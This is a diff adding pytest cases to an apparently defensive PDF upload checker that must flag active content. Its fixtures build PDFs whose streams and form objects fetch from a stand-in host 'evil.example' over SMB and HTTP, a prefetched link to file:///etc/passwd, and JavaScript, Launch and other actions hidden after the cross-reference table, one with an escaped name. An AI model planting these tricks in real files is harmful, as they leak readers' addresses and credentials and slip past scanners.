@@ -14,6 +14,8 @@ from pypdf.generic import (
     FloatObject,
     NameObject,
     NullObject,
+    NumberObject,
+    StreamObject,
     TextStringObject,
 )
 
@@ -190,3 +192,51 @@ def test_named_acts_that_do_more_than_turn_pages(name: str) -> None:
     writer = blank()
     click(writer, action("/Named", N=N(name)))
     assert taken(writer) == "file.pdf_active"
+
+
+@pytest.mark.parametrize("place", [r"\\evil.example\share\x", "http://evil.example/x"])
+@pytest.mark.parametrize("how", ["string", "specification"])
+def test_a_stream_whose_bytes_lie_elsewhere(place: str, how: str) -> None:
+    """A viewer fetches them, and shows the address who opened the file, where a share also who they are."""
+    writer = blank()
+    specification = DictionaryObject({N("/Type"): N("/Filespec"), N("/FS"): N("/URL"), N("/F"): T(place)})
+    stream = StreamObject()
+    stream[N("/F")] = T(place) if how == "string" else writer._add_object(specification)
+    writer.pages[0][N("/Contents")] = writer._add_object(stream)
+    assert taken(writer) == "file.pdf_active"
+
+
+@pytest.mark.parametrize("key", ["/Ref", "/OPI"])
+def test_a_picture_that_stands_for_another_file(key: str) -> None:
+    writer = blank()
+    form = StreamObject()
+    form.update({N("/Type"): N("/XObject"), N("/Subtype"): N("/Form")})
+    elsewhere = DictionaryObject({N("/F"): T(r"\\evil.example\x.pdf"), N("/Page"): NumberObject(0)})
+    form[N(key)] = elsewhere if key == "/Ref" else DictionaryObject({N("/2.0"): elsewhere})
+    writer.pages[0][N("/Resources")] = DictionaryObject(
+        {N("/XObject"): DictionaryObject({N("/X"): writer._add_object(form)})}
+    )
+    assert taken(writer) == "file.pdf_active"
+
+
+def test_a_link_fetched_ahead_is_a_link_too() -> None:
+    writer = blank()
+    annotated(writer, {"/PA": action("/URI", URI=T("file:///etc/passwd"))})
+    assert taken(writer) == "file.pdf_active"
+
+
+@pytest.mark.parametrize("name", ["/JavaScript", "/Java#53cript", "/Launch", "/SubmitForm", "/RichMedia"])
+def test_an_act_behind_the_end_of_the_file(name: str) -> None:
+    """Not in the table, so our parser does not see it; viewers that mend the table of a file do."""
+    out = io.BytesIO()
+    blank().write(out)
+    act = f"\n3 0 obj\n<</Type/Page/AA<</O<</S{name}/F(x)>>>>>>\nendobj\n".encode()
+    with pytest.raises(FileRefused) as refusal:
+        file_check(content=out.getvalue() + act, name="a.pdf", kinds=DOCUMENTS)
+    assert refusal.value.code == "file.pdf_active"
+
+
+def test_flags_and_labels_named_f_are_no_files() -> None:
+    writer = blank()
+    annotated(writer, {"/F": NumberObject(4)})
+    assert taken(writer) == ""
